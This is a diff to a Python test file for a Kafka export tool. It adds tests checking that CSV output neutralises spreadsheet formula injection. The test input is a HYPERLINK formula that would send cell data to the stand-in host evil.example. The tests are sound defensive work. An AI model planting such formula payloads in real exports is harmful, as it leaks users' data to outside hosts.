@@ -1,7 +1,9 @@
-"""The JSON Lines an export writes: the fast text form is byte for byte the general one."""
+"""The JSON Lines and CSV an export writes: the fast text form is byte for byte the general one; CSV neutralises formulas."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import time
 from collections.abc import Callable
@@ -12,7 +14,7 @@ from confluent_kafka import Producer
 from confluent_kafka.admin import AdminClient, NewTopic
 
 from backbone_admin.kafka.records import EARLIEST, Record, reader
-from streams.jobs.export import _jsonl_event, jsonl_lines, jsonl_messages, payload_bytes
+from streams.jobs.export import _jsonl_event, csv_lines, jsonl_lines, jsonl_messages, payload_bytes
 from tests.conftest import independent_client_config
 
 RECORDS = [
@@ -132,3 +134,29 @@ def test_the_header_cache_stays_small_whatever_the_headers() -> None:
     for i in range(3 * export.HEADERS_JSON_KEPT):
         export._headers_json((("trace", str(i).encode()),))
         assert len(export._HEADERS_JSON) <= export.HEADERS_JSON_KEPT
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(start: str) -> None:
+    """OWASP CSV injection: `=HYPERLINK(...)` in a key or value never reaches a spreadsheet as a formula."""
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    records = [
+        Record("t", 0, 7, 1, "create", formula.encode(), formula.encode(), ()),
+        Record("t", 0, 8, 1, "create", b"plain", b"=" + bytes([0xFF]), ()),  # base64 of a binary value: `Pf8=`
+        Record("t", 0, 9, 1, "create", None, b"-", ()),
+    ]
+    rows = list(csv.reader(io.StringIO(csv_lines(records).decode())))
+    key, value, key_encoding, value_encoding = rows[0][3], rows[0][4], rows[0][6], rows[0][7]
+    assert key == value == "'" + formula
+    assert key_encoding == value_encoding == "escaped-text"
+    assert (rows[1][3], rows[1][6]) == ("plain", "text")
+    assert rows[1][7] == "base64"  # `Pf8=` does not start with a formula character
+    assert (rows[2][4], rows[2][6], rows[2][7]) == ("'-", "null", "escaped-text")
+    # Dropping the first character of an escaped cell gives the value back.
+    assert rows[0][4][1:].encode() == formula.encode()
+
+
+def test_a_base64_cell_that_starts_like_a_formula_is_neutralised_too() -> None:
+    value = bytes([0xFB, 0xEF, 0xFF])  # base64 `++//`
+    [row] = list(csv.reader(io.StringIO(csv_lines([Record("t", 0, 1, 1, "create", None, value, ())]).decode())))
+    assert (row[4], row[7]) == ("'++//", "escaped-base64")
